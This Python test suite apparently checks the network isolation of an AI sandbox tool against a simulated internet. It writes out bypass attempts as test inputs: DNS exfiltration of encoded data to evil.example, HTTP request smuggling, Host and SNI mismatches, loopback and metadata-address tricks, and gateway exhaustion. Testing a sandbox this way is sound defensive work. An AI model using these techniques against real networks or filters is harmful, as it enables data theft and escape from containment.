#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on the network's rules (A096 to A114), against a small internet of this suite's own (tests/lib/attacknet.py)."""
import contextlib
import ctypes
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import internet
from aisbxtest import PLAIN_ID, Suite
from attacknet import SEEN, A, begin, enter, inside, is_gone, outside
from box import patience, slow
from family import of_process
from internet import EVIL, GOOD, LAN, METADATA, PRELUDE

enter()
suite = Suite("network", needs_attack=False)
DIAL = f"""
for host, port in (('{GOOD}', 80), ('{LAN}', 80), ('{METADATA}', 80), ('2001:db8::10', 80), ('good.example', 80)): print(get(host, port))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
try: u.sendto(b'x', ('{GOOD}', 9000)); print(u.recv(10).decode().replace(' ', '-'))
except OSError as e: print(type(e).__name__)
"""


def no_network_control(t):
    words = outside(DIAL)
    t.ok(words[:3] == [GOOD, LAN, METADATA] and words[4:] == [GOOD, "echo-x"], "all of it is reached outside", words)


@suite.case("A096", "no network: TCP, UDP, metadata, LAN, names", no_network_control)
def no_network(t):
    result = inside(t, DIAL)
    t.ok(not set(result.words) & {GOOD, LAN, METADATA, "echo-x"} and not result.hits and not result.asked,
         "nothing is reached, nothing is asked", result)
    t.ok(any(GOOD in what for what in result.told), "and it is told", result.told)


MESSAGES = f"""
import ctypes
c = ctypes.CDLL(None, use_errno=True)
def address(to, port=9000): return struct.pack('<H', 2) + struct.pack('>H', port) + socket.inet_aton(to) + bytes(8)
keep = []
def buffer(data): keep.append(ctypes.create_string_buffer(data, len(data))); return ctypes.addressof(keep[-1])
def header(to, length=16):
    part = buffer(struct.pack('<QQ', buffer(b'x'), 1))
    return struct.pack('<QIxxxxQQQQIxxxx', buffer(address(to) + bytes(112)) if to else 0, length if to else 0, part, 1, 0, 0, 0)
def say(headers, many, flags=0):
    s = socket.socket(2, 1 if flags & 0x20000000 else 2); s.settimeout(2)
    if many: c.sendmmsg(s.fileno(), ctypes.c_void_p(buffer(b''.join(h + bytes(8) for h in headers))), len(headers), flags)
    else: c.sendmsg(s.fileno(), ctypes.c_void_p(buffer(headers[0])), flags)
    try: return s.recv(10).decode().replace(' ', '-') or 'nothing'
    except OSError as e: return type(e).__name__
out, own = header('{GOOD}'), header('127.0.0.1')
print(say([out], False), say([header('{GOOD}', 9999)], False), say([out], True), say([own] * 50 + [out], True), say([out], False, 0x4000), say([out], True, 0x4000))
"""


@suite.case("A096c", "no network: messages with an address", lambda t: t.ok(
    outside(MESSAGES).count("echo-x") == 6, "each is answered outside", outside(MESSAGES)))
def messages(t):
    result = inside(t, MESSAGES)
    t.ok("echo-x" not in result.words and len(result.words) == 6, "none is answered", result)
    told = [what for what in result.told if f"udp:{GOOD}:9000" in what]
    t.ok({what.split()[0] for what in told} == {"sendmsg", "sendmmsg"} and
         sum(d["count"] for d in result.json["denials"] if d["what"] in told) == 6, "and each is told", result.json["denials"])
    result = inside(t, "s = socket.socketpair(); s[0].sendmsg([b'own']); print(s[1].recv(9).decode())")
    t.ok(result.words == ["own"] and not result.told, "messages of one's own are not", result)


def loopback_control(t):
    t.equal(outside("print(get('127.0.0.1'), get('localhost'))"), ["127.0.0.1"] * 2, "the host's loopback is there outside")


@suite.case("A097", "loopback of the host, with a network", loopback_control)
def loopback(t):
    script = "print(get('127.0.0.1'), get('::1'), get('localhost'), get('127.1.2.3'), get('0.0.0.0'), get('::ffff:127.0.0.1'))"
    for flags in (A, [*A, "--allow", "0.0.0.0/0:80", "--allow", "[::/0]:80"], []):
        result = inside(t, script, *flags)
        t.ok("127.0.0.1" not in result.words and not result.hits, f"the host's listener sees nothing: {flags}", result)


@suite.case("A098", "DNS out", lambda t: t.equal(
    outside(f"print(ask(1, b'good.example', server='{internet.NAMES_AT}'))"), ["(0,", "1)"], "the nameserver answers outside"))
def dns_out(t):
    script = f"""
for how in (dict(), dict(tcp=True), dict(port=853, tcp=True)):
    try: print(ask(1, b'good.example', server='{internet.NAMES_AT}', **how))
    except OSError as e: print(type(e).__name__)
"""
    result = inside(t, script)
    t.ok("(0," not in result.words and not result.asked, "without a network nobody is asked", result)


@suite.case("A099", "direct dial in allow-list mode", lambda t: t.equal(
    outside(f"print(get('{EVIL}'), get('{EVIL}', 8000))")[0], EVIL, "a dial by address works outside"))
def direct_dial(t):
    result = inside(t, f"print(get('{EVIL}'), get('{EVIL}', 8000))", *A)
    t.equal(result.words, ["ConnectionResetError", "ConnectionRefusedError"], f"{result}")
    t.ok(not result.hits, "not a byte has left", result.hits)
    t.ok({f"connect {EVIL}:80", f"connect {EVIL}:8000"} <= set(result.told), "both are told", result.told)


@suite.case("A100", "policy: empty, unlisted, wrong port, listed", lambda t: t.equal(
    outside("print(get('good.example'), get('evil.example'), get('good.example', 8080))"), [GOOD, EVIL, GOOD], "open outside"))
def policy(t):
    script = "print(get('good.example'), get('evil.example'), get('good.example', 8080))"
    t.equal(inside(t, script, "--net", "allow").words, ["gaierror", "gaierror", "gaierror"], "an empty list is nothing")
    t.equal(inside(t, script, *A).words, [GOOD, "gaierror", "ConnectionRefusedError"], "the listed pair and no other")
    t.equal(inside(t, script, *A, "--deny", "*.example:80").words, ["gaierror"] * 3, "deny wins")


TRICKS = ("good.example.evil.example", "notgood.example", "xgood.example", "good.example@evil.example", "good%2eexample",
          "g\\u00f6\\u00f6d.example", "a" * 300, "a." * 130 + "example", "good.example\\x00.evil.example", "good..example", "-good.example",
          "evil.example\\n", "good.example:80")


@suite.case("A102", "name tricks", lambda t: t.equal(outside("print(get('evil.example'))"), [EVIL], "evil is there outside"))
def name_tricks(t):
    script = "for name in (" + "".join(f"'{trick}', " for trick in TRICKS) + "):\n" \
             " try: print(get(name))\n except Exception as e: print(type(e).__name__)"
    result = inside(t, script, *A)
    # What Python itself cuts off behind a zero byte is the name that is allowed.
    t.ok(len(result.words) == len(TRICKS) and set(result.hits) <= {GOOD}, "none leads anywhere else", result)
    t.ok({name for name, *_ in result.asked} <= {"good.example"}, "and nobody is asked for one", result.asked)
    t.equal(inside(t, "print(get('GOOD.Example.'), get('good.example'))", *A).words, [GOOD, GOOD], "one name in two spellings")
    for rule in TRICKS:
        done = t.box.run("true", flags=["--allow", rule.encode().decode("unicode_escape").replace("\0", "\x01") + ":80"])
        t.ok(done.code == 125 and done.status == "denied" or rule.isascii() and done.code in (0, 125), f"as a rule: {rule[:30]}", done)


@suite.case("A105", "literal addresses", lambda t: t.equal(
    outside("print(get('2130706433'), get('0x7f.1'))"), ["127.0.0.1"] * 2, "careless forms reach the loopback outside"))
def literals(t):
    script = f"print(*[get(host) for host in ('2130706433', '0177.0.0.1', '0x7f.1', '::ffff:127.0.0.1', '{EVIL}', '{METADATA}', '{LAN}', '64:ff9b::7f00:1')])"
    result = inside(t, script, *A)
    t.ok(not result.hits and set(result.words) <= {"ConnectionResetError", "ConnectionRefusedError", "OSError", "gaierror"},
         "each is reset or refused", result)
    t.ok(len(result.told) >= 4, "and told", result.told)


@suite.case("A106", "SNI differs", lambda t: t.equal(
    outside("print(hello('good.example', 'evil.example'))"), ["seen"], "any name goes through outside"))
def sni(t):
    internet.swallowed.clear()
    result = inside(t, "print(hello('good.example', 'evil.example'), hello('good.example', None), hello('good.example', 'evil.example', pieces=5))",
                    "--allow", "good.example:443")
    t.equal(result.words, ["ConnectionResetError"] * 3, f"{result}")
    t.ok(not internet.swallowed.get(GOOD), "before bytes flow", internet.swallowed)


HOSTS = r"""
def say(*lines, end='\r\n'):
    with socket.create_connection(('good.example', 8000), 60) as s:
        s.settimeout(60)
        s.sendall(end.join([*lines, '', '']).encode()); s.shutdown(socket.SHUT_WR)
        data = b''
        try:
            while part := s.recv(65536): data += part
        except OSError: pass
    return data.split()[1].decode() if data else 'nothing'
"""
DIFFERENT = HOSTS + r"""
G, H = 'GET /smuggled HTTP/1.1', 'Host: good.example'
print(say(G, 'Host: evil.example'), say('GET http://good.example:8000/smuggled HTTP/1.1', 'Host: evil.example'), say(G, H, 'Host: evil.example'),
      say(G, H, 'X: a', ' b'), say(G, H, end='\n'), say('POST /smuggled HTTP/1.1', H, 'Content-Length: 3', 'Transfer-Encoding: chunked'),
      say('GET /smuggled\x01 HTTP/1.1', H))
"""


@suite.case("A108", "Host header differs", lambda t: t.ok(
    "200" in outside(DIFFERENT) and any(b"evil" in part for part in SEEN), "a server takes them outside", SEEN))
def host_differs(t):
    SEEN.clear()
    result = inside(t, DIFFERENT, "--allow", "http:good.example:8000/")
    t.equal(result.words, ["400"] * 7, f"on a host with rules about requests: {result}")
    t.ok(not any(b"smuggled" in part for part in SEEN), "none has reached the server", SEEN)
    SEEN.clear()
    result = inside(t, DIFFERENT, "--allow", "good.example:8000")
    t.equal(result.words, ["400"] * 7, f"and on one that is permitted by its name: {result}")
    t.ok(not SEEN, "nothing of it has reached the server", SEEN)
    t.ok(any("evil.example" in what for what in result.told), "and the other host is told", result.told)


OVER = HOSTS + r"""
def pieces(*parts):
    'Parts that the gateway sees one after the other; an urgent byte ends what it can look at.'
    with socket.create_connection(('good.example', 8000), 60) as s:
        s.settimeout(60); s.setsockopt(6, 1, 1)
        data = b''
        try:
            for part in parts: s.send(part[1:] if part[:1] == b'!' else part, socket.MSG_OOB if part[:1] == b'!' else 0); __import__('time').sleep(.05)
            s.shutdown(socket.SHUT_WR)
            while got := s.recv(65536): data += got
        except OSError: pass
    return data.split()[1].decode() if data else 'nothing'
E = b'Host: evil.example\r\n\r\n'
words = [pieces(b'get / HTTP/1.1\r\n' + E), pieces(b'\r\n\n', b'GET / HTTP/1.1\r\n' + E), pieces(b'GE', b'T / HTTP/1.1\r\n' + E),
         pieces(b'GET / HTTP/1.1\r\nHo', b'st: evil.example\r\n\r\n'), pieces(b'GE', b'!x', b'T / HTTP/1.1\r\n' + E), pieces(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
         pieces(b'GET / HTTP/1.1\r\nHost: good.example\r\n\r\nGET /second HTTP/1.1\r\n' + E), pieces(b'POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 1\r\n\r\nxGET /second HTTP/1.1\r\n' + E),
         pieces(b'GET\t/ HTTP/1.1\r\n' + E), pieces(b'GET / HTTP/1.1\n' + E)]
print(*words)
"""
OTHERS = HOSTS + r"""
def plain(data):
    with socket.create_connection(('good.example', 8000), 60) as s:
        s.settimeout(60); s.sendall(data)
        if not data.endswith(b'\n') and data.isascii(): s.shutdown(socket.SHUT_WR)
        try: return s.recv(9).decode()
        except OSError as e: return type(e).__name__
print(*[plain(data) for data in (b'SSH-2.0-x\r\n', b'*1\r\n$4\r\nPING\r\n', b'\0\0\1\x80', b'0032git-upload-pack /x\0host=good.example\0\xff', b'word',
      b'GET / HTTP/1.0\r\n\r\n', b'GET / HTTP/1.1\r\nHost: GOOD.example:8000\r\n\r\n', b'POST / HTTP/1.1\r\nHost: good.example\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 2\r\n\r\n{}\n')])
"""


@suite.case("A108d", "another Host over a permitted name", lambda t: t.ok(
    outside(OVER) and sum(b"evil" in part for part in SEEN) >= 6, "a server takes them outside", SEEN))
def other_host(t):
    SEEN.clear()
    result = inside(t, OVER, "--allow", "good.example:8000", timeout=60)
    t.ok(not any(b"evil" in part or b"/second" in part for part in SEEN), "none has reached the server", SEEN)
    t.ok(len(result.words) == 10 and result.words.count("200") <= 2, "each is refused, or ends behind the first", result.words)
    result = inside(t, OTHERS, "--allow", "good.example:8000", timeout=60)
    t.equal(result.words, ["HTTP/1.1"] * 8, f"what names no other host passes, and other protocols do: {result}")


DISGUISED = HOSTS + r"""
H = 'Host: good.example'
print(*[say(f'GET {path} HTTP/1.1', H) for path in ('/admin;a', '/Admin', '/admin.', '/admin%20', '/;x/admin', '/%3b/admin', '/adm%69n;a', '/.../admin', '/adm%c4%b1n')],
      *[say(f'{method} /x HTTP/1.1', H) for method in ('delete', 'Delete', 'DELETE')],
      *[say('POST /x HTTP/1.1', H, f'{name}: DELETE') for name in ('X-HTTP-Method-Override', 'x_http_method_override', 'X-HTTP-Method', 'X-Method-Override', 'X-Original-URL')],
      *[say(f'POST /x?{query} HTTP/1.1', H) for query in ('_method=DELETE', 'a=b&%5fmethod=DELETE')])
"""


@suite.case("A108e", "requests in disguise", lambda t: t.equal(outside(DISGUISED), ["200"] * 19, "a server takes them outside"))
def disguised(t):
    SEEN.clear()
    flags = ["--allow", "good.example:8000", "--deny", "http:good.example:8000/admin", "--deny", "http:DELETE:good.example:8000"]
    result = inside(t, DISGUISED, *flags)
    t.equal(result.words, ["403"] * 19, f"each is refused: {result}")
    t.ok(not SEEN, "none has reached the server", SEEN)
    result = inside(t, HOSTS + "print(*[say(f'{line} HTTP/1.1', 'Host: good.example') for line in ('GET /x;admin', 'GET /administrator', 'POST /x?method=list')])", *flags)
    t.equal(result.words, ["200"] * 3, f"others pass: {result}")


OWN, OWN_PORT = "11.7.7.7", 8100


def own_control(t):
    words = outside(f"print(get('own.example', {OWN_PORT}), get('{OWN}', {OWN_PORT}))")
    t.equal(words, [OWN, OWN], "this machine's own service is reached outside")


@suite.case("A107d", "an address of this machine itself", own_control)
def own_address(t):
    script = f"print(get('own.example', {OWN_PORT}), get('a.own.example', {OWN_PORT}), get('{OWN}', {OWN_PORT}))"
    for flags in (["*.own.example"], ["own.example", "a.own.example"], ["0.0.0.0/0", "own.example"], ["11.0.0.0/8"], [f"{OWN[:-1]}6/31"]):
        result = inside(t, script, *[word for rule in flags for word in ("--allow", f"{rule}:{OWN_PORT}")])
        t.ok(OWN not in result.words and len(result.words) == 3 and not result.hits, f"{flags} does not lead there", result)
    t.ok(any("itself" in d["rule"] for d in result.json["denials"]), "and it is told why", result.json["denials"])
    result = inside(t, f"print(get('{OWN}', {OWN_PORT}))", "--allow", f"{OWN}:{OWN_PORT}")
    t.equal(result.words, [OWN], f"a rule for exactly that address does: {result}")


PROXY = HOSTS + r"""
print(*[say(f'CONNECT {to} HTTP/1.1', 'Host: ' + to) for to in ('good.example:8000', 'localhost:80', '127.0.0.1:22', 'evil.example:80')],
      say('GET http://127.0.0.1:80/ HTTP/1.1', 'Host: 127.0.0.1:80'))
"""


@suite.case("A109", "a proxy to ourselves", "outside there is no gateway that could be one")
def proxy(t):
    SEEN.clear()
    result = inside(t, PROXY, "--allow", "http:good.example:8000/")
    t.ok(result.words[0] == "403" and set(result.words[1:]) <= {"400", "403"}, "refused", result)
    t.ok(not any(b"CONNECT" in part for part in SEEN) and not result.hits, "nobody hears of it", SEEN)
    result = inside(t, "print(get('host.local'), get('198.18.0.1'), get('198.18.0.1', 22))", *A)
    t.ok(not result.hits, "nor is the address that would stand for this machine", result)


@suite.case("A110", "DNS exfiltration", lambda t: t.ok(
    outside(f"print(ask(16, b'c2VjcmV0.evil.example', server='{internet.NAMES_AT}')[0])") and
    any("c2vjcmv0" in row[0] for row in internet.asked), "outside the nameserver hears it", internet.asked[-3:]))
def exfiltration(t):
    script = "\n".join(["for kind in (1, 28, 16, 10, 255, 5, 2, 15, 33, 65):", "  print(ask(kind, b'c2VjcmV0.evil.example'), ask(kind, b'good.example'))",
                        "print(ask(1, b'c2VjcmV0.good.example'), ask(12, b'1.1.168.192.in-addr.arpa'))"])
    result = inside(t, script, *A)
    t.ok({row[:2] for row in result.asked} <= {("good.example", 1), ("good.example", 28)}, "only what is listed is asked", result.asked)
    rows = result.out.splitlines()
    t.ok(len(rows) == 11 and all(row.startswith("(3, 0)") for row in rows), f"unlisted names do not exist: {result}", rows)


@suite.case("A111", "gateway exhaustion", "a bound of ours, not of the kernel's")
def exhaustion(t):
    # The gateway takes as many as it may have descriptors for, at most 4,096.
    descriptors, count = 2000, 600
    script = f"""
address = socket.gethostbyname('good.example')
held = []
for i in range({count}):
    try: held.append(socket.create_connection(('{GOOD}', 7002), 60))
    except OSError as e: break
alive = 0
for s in held:
    s.settimeout(60)
    try: alive += s.recv(6) == b'hello\\n'
    except OSError: pass
print(alive)
for s in held: s.close()
# Until the gateway has seen that the others are closed, it is full, and resets new ones: each time one too many comes.
import time
def again(what):
    for i in range(600):
        try:
            if found := what(): return found
        except OSError: pass
        time.sleep(0.1)
s = again(lambda: socket.create_connection((address, 8000), 60)); s.settimeout(120)
try:
    s.sendall(b'GET / HTTP/1.1\\r\\nX: ' + b'a' * (1 << 20)); print(s.recv(100).split()[1].decode())
except OSError as e: print(type(e).__name__)
print(again(lambda: get(address) == '{GOOD}' and '{GOOD}'))
"""
    child = t.box.popen(["python3", "-c", PRELUDE + script], flags=[*A, "--allow", f"{GOOD}:7002", "--allow", "http:good.example:8000",
                                                                    "--nofile", "1900"],
                        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (descriptors, descriptors)))
    largest, end = 0, time.monotonic() + patience(60)
    while child.poll() is None and time.monotonic() < end:
        for size, about in internet.gateways().values():
            if int(about["PPid"]) == child.pid:
                largest = max(largest, size)
        time.sleep(0.05)
    told = json.loads(child.communicate()[0])
    words = told["stdout"].split()
    t.ok(300 <= int(words[0]) <= (descriptors - 900) / 3 + 1, "so many at a time and no more", words)
    t.ok(words[1:] == ["431", GOOD] or words[1:] == ["ConnectionResetError", GOOD], "an endless head ends, and life goes on",
         (words, told["stderr"][-500:]))
    t.ok(largest <= 16 * 1024 or slow(), f"the gateway stays small: {largest} KiB", largest)


def exposure_control(t):
    with socket.create_server(("127.0.0.1", 0)) as server:
        t.ok(f"0100007F:{server.getsockname()[1]:04X}" in internet.listeners(), "a listener is seen")


@suite.case("A112", "the gateway and the supervisor are nobody else's", exposure_control)
def exposure(t):
    before = internet.listeners()
    name = f"expose-{os.getpid()}"
    call = [t.caller.program]
    how = {"env": t.caller.env, "cwd": t.caller.workspace, "capture_output": True, "text": True, "check": False, **t.caller.identity()}
    subprocess.run([*call, "create", name, *A], **how)
    try:
        child = subprocess.run([*call, "exec", name, "--", "python3", "-c", PRELUDE + "print(get('good.example'))"], **how)
        t.equal(child.stdout.split(), [GOOD], "a sandbox with a gateway")
        t.equal(internet.listeners(), before, "no port of this machine listens for it")
        with open("/proc/net/unix") as file:
            t.ok("aisbx" not in "".join(line for line in file if " @" in line), "no abstract name")
        path = f"{t.caller.home}/.local/share/aisbx/sbx/{name}/socket"
        other = PLAIN_ID + 1
        script = f"import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect('{path}')"
        # Not this python: it may lie below a directory that only root enters.
        python = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin") or sys.executable
        done = subprocess.run([python, "-c", script], user=other, group=other, extra_groups=[], capture_output=True, text=True,
                              check=False)
        t.ok("PermissionError" in done.stderr, "another user cannot reach the keeper", done.stderr[-200:])
    finally:
        subprocess.run([*call, "rm", name], **how)


NEIGHBOUR = r"""
import ctypes, os
s = socket.create_server(('0.0.0.0', 5000)); a = socket.socket(socket.AF_UNIX); a.bind('\0neighbour'); a.listen()
libc = ctypes.CDLL(None); print(libc.shmget(0x5eed, 4096, 0o1666), flush=True); open('/dev/shm/neighbour', 'w').write('x'); open('/tmp/neighbour', 'w').write('x')
sys.stdin.read(1)
"""
VISIT = r"""
import ctypes, os
found = [get('127.0.0.1', 5000), get('198.51.100.10', 5000)]
try: u = socket.socket(socket.AF_UNIX); u.connect('\0neighbour'); found.append('abstract')
except OSError as e: found.append(type(e).__name__)
print(*found, ctypes.CDLL(None).shmget(0x5eed, 4096, 0), os.path.exists('/dev/shm/neighbour'), os.path.exists('/tmp/neighbour'))
"""


KEY = 0x5eed0000 + os.getpid() % 0x10000


def ours(script):
    """The same with names that no other suite on this machine uses."""
    return script.replace("neighbour", f"neighbour-{os.getpid()}").replace("0x5eed", hex(KEY))


def neighbour_control(t):
    child = subprocess.Popen([sys.executable, "-c", PRELUDE + ours(NEIGHBOUR)], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    try:
        child.stdout.readline()
        words = outside(ours(VISIT))
        t.ok(words[2] == "abstract" and int(words[3]) >= 0 and words[4:] == ["True", "True"], "outside all is shared", words)
    finally:
        child.communicate(b"\n")
        libc = ctypes.CDLL(None)
        libc.shmctl(libc.shmget(KEY, 4096, 0), 0, None)
        for path in (ours("/dev/shm/neighbour"), ours("/tmp/neighbour")):
            if os.path.exists(path):
                os.unlink(path)


@suite.case("A113", "a neighbour sandbox", neighbour_control)
def neighbour(t):
    for flags in ([], A, ["--publish", "18099:5000"]):
        child = t.box.popen(["python3", "-c", PRELUDE + ours(NEIGHBOUR)], flags=flags, as_json=False, stdin=subprocess.PIPE)
        try:
            child.stdout.readline()
            result = inside(t, ours(VISIT), *A)
            t.ok(result.words[0] not in ("x",) and result.words[:2] == ["ConnectionRefusedError"] * 2 and result.words[2].endswith("Error")
                 and result.words[3:] == ["-1", "False", "False"], f"nothing of it is reached: {flags}", result)
            if flags[:1] == ["--publish"]:
                result = inside(t, "print(get('127.0.0.1', 18099), get('host.local', 18099))", *A)
                t.ok("nothing" not in result.words and all(word.endswith("rror") for word in result.words), "nor what it publishes", result)
        finally:
            child.communicate(b"\n")


def networks():
    """Network namespaces that processes are in."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        # Processes of others cannot be looked at; what belongs to the sandboxes of this caller can.
        with contextlib.suppress(PermissionError):
            found.add(of_process(os.readlink, f"/proc/{pid}/ns/net"))
    return found - {None}


WHICH = "print(os.readlink('/proc/self/ns/net'), flush=True)\n"


@suite.case("A114", "a held namespace", lambda t: t.ok(os.readlink("/proc/self/ns/net") in networks(), "namespaces are seen"))
def held(t):
    script = WHICH + "if os.fork() == 0:\n  os.setsid(); f = os.open('/proc/self/ns/net', os.O_RDONLY); __import__('time').sleep(1000)\nprint(get('good.example'))"
    result = inside(t, "import os\n" + script, *A)
    t.ok(len(result.words) == 2 and result.words[1] == GOOD, f"it ran: {result}")
    t.ok(is_gone(lambda: result.words[0] in networks()), "its network is gone", result.words[0])
    child = t.box.popen(["python3", "-c", PRELUDE + "import os\n" + WHICH + "get('good.example'); __import__('time').sleep(1000)"],
                        flags=[*A, "--publish", "18098:5000"], as_json=False)
    ours = child.stdout.readline()
    ours = (ours.decode() if isinstance(ours, bytes) else ours).strip()
    t.ok(ours in networks() and "0100007F:46B2" in internet.listeners(), "another is up", ours)
    child.send_signal(signal.SIGKILL)
    child.wait()
    t.ok(is_gone(lambda: ours in networks() or "0100007F:46B2" in internet.listeners()), "nor is one left behind a supervisor that was killed, nor a listener",
         internet.listeners())
    child.stdout.close()
    child.stderr.close()


threading.excepthook = lambda *_: None
internet.NAMES.update({"own.example": OWN, "a.own.example": OWN})
begin()
subprocess.run(["ip", "addr", "add", OWN + "/32", "dev", "lo"], check=True)
internet.listen(OWN, OWN_PORT, internet.web)
suite.main()
